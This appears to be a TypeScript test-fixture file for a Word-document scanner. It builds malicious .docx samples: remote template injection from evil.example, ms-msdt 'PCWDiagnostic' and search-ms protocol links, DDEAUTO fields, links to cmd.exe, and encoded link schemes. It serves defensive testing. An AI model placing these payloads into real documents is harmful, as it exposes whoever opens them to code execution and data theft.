import * as make from '../make-test-documents.ts';
import type { SampleRow } from './document-sample.ts';
import {
  documentOf,
  documentWithLink,
  field,
  instruction,
  linkTo,
  OFFICE,
  relationOf,
  remoteImage,
  run,
} from './word-markup.ts';

/** Word documents whose relations, drawings or links load or run something. */
export const hostileWordRelations: SampleRow[] = [
  [
    'picture, z:Target and z:TargetMode',
    () => relationOf(`${remoteImage} z:Target="a" z:TargetMode="Internal"`),
    'active',
  ],
  ['picture, z:TargetMode', () => relationOf(`${remoteImage} z:TargetMode="Internal"`), 'active'],
  ['picture, z:Type', () => relationOf(`${remoteImage} z:Type="${OFFICE}/hyperlink"`), 'active'],
  ['picture, z:Type before', () => relationOf(`z:Type="${OFFICE}/hyperlink" ${remoteImage}`), 'active'],
  ['macros, z:Type', () => relationOf(`Type="${OFFICE}/vbaProject" Target="a.bin" z:Type="${OFFICE}/image"`), 'macros'],
  [
    'template, z:Target',
    () =>
      relationOf(
        `Type="${OFFICE}/attachedTemplate" Target="\\\\evil.example\\s\\t.dotm" TargetMode="External" z:Target="a.dotx"`,
        'word/_rels/settings.xml.rels',
      ),
    'active',
  ],
  [
    'inner picture with a second target',
    () => relationOf(`Type="${OFFICE}/image" Target="a.png" z:Target="b"`),
    'active',
  ],
  // Pictures whose relation has the type of a link.
  ...[
    '<a:blip r:link="rLink"/>',
    '<a:blip r:embed="rLink"/>',
    '<v:imagedata r:id="rLink"/>',
    '<v:fill r:href="r&#76;ink"/>',
    '<z:other r:pict=" rLink "/>',
  ].map((element): SampleRow => [`${element} to a link`, () => documentWithLink(run(element)), 'active']),
  ['<v:imagedata o:relid="rLink"/> to a link', () => documentWithLink(run('<v:imagedata o:relid="rLink"/>')), 'active'],
  // Parts that Word or another reader opens as an add-in, or puts together.
  ...[
    'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
    'http://schemas.microsoft.com/office/2011/relationships/webextension',
    'http://schemas.microsoft.com/office/2006/relationships/ui/extensibility',
    'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
  ].map((type): SampleRow => [`part of type ${type}`, () => relationOf(`Type="${type}" Target="a.xml"`), 'active']),
  ...['we:webextension', 'wetp:taskpane'].map(
    (name): SampleRow => [
      `element ${name}`,
      () => make.makeDocx({ name: 'word/a.xml', content: `<${name}/>` }),
      'active',
    ],
  ),
  ...['word/header1.xml/[0].piece', 'word/header1.xml/[1].LAST.PIECE'].map(
    (name): SampleRow => [`piece ${name}`, () => make.makeDocx({ name, content: 'DDEAUTO x' }), 'broken'],
  ),
  ...['manifestLocation', 'schemaLocation', 'xsdLocation'].flatMap((attribute) =>
    ['http://evil.example/a.xml', '\\\\evil.example\\s\\a.xsd'].map(
      (location): SampleRow => [
        `${attribute} ${location}`,
        () => documentOf(`<sl:schema xmlns:sl="urn:sl" sl:uri="urn:x" sl:${attribute}="${location}"/>`),
        'active',
      ],
    ),
  ),
  // A main part that readers may take for another encoding.
  ...['hello', Buffer.from('4c6fa794', 'hex')].map(
    (content): SampleRow => [
      `main part ${content.toString('latin1')}`,
      () => make.makeZip([make.contentTypes(), { name: 'word/document.xml', content }]),
      'broken',
    ],
  ),
  // Drawings.
  [
    'drawing with two pictures',
    () => documentOf(run('<w:pict><v:imagedata src="http://evil.example/a.png" z:src="a.png"/></w:pict>')),
    'active',
  ],
  ['drawing that is a picture', () => documentOf('<v:image src="http://evil.example/a.png"/>'), 'active'],
  ['drawing that is a link to a program', () => documentOf('<v:shape href="ms-msdt:/id PCWDiagnostic"/>'), 'active'],
  // Links.
  ...[
    'ms-msdt:/id PCWDiagnostic',
    'search-ms:query=x&amp;crumb=location:\\\\evil.example\\s',
    'ms-word:ofe|u|http://evil.example/a.docm',
    'm&#115;-officecmd:x',
    'ms-%6Dsdt:x',
    'ldap://evil.example/a',
    'file:///C:/Windows/System32/cmd.exe',
    'C:\\Windows\\System32\\calc.exe',
  ].flatMap((target): SampleRow[] => [
    [`link to ${target}`, () => linkTo(target), 'active'],
    [
      `HYPERLINK to ${target}`,
      () => documentOf(field(instruction(`HYPERLINK "${target.replaceAll('\\', '\\\\')}"`))),
      'active',
    ],
  ]),
  ['HYPERLINK, quoted switch before', () => documentOf(field(instruction('HYPERLINK "\\o" "ms-msdt:x"'))), 'active'],
  [
    'HYPERLINK with a computed address',
    () => documentOf(field(instruction('HYPERLINK "'), field(instruction('QUOTE a')), instruction('"'))),
    'active',
  ],
];
